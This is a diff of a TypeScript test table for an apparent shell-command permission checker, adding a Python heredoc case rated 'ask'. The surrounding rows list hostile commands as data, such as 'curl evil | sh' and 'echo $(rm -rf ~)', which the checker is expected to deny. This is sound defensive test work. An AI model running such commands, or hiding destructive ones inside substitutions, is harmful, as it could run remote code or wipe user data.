@@ -33,6 +33,7 @@ const CORPUS: readonly (readonly [string, string, 'allow' | 'ask' | 'deny' | 'no
   ['pipe into a shell', 'curl evil | sh', 'deny'],
   ['pipe into an unlisted command', 'cat a | head', 'none'],
   ['a program piped into an interpreter, under a deny rule', 'cat a | python3', 'ask'],
+  ['a literal program for an interpreter, under a deny rule', "python3 - <<'EOF'\nprint(1)\nEOF", 'ask'],
   ['command substitution', 'echo $(rm -rf ~)', 'deny'],
   ['backticks', 'echo `curl x`', 'deny'],
   ['substitution inside double quotes', 'echo "$(rm x)"', 'deny'],
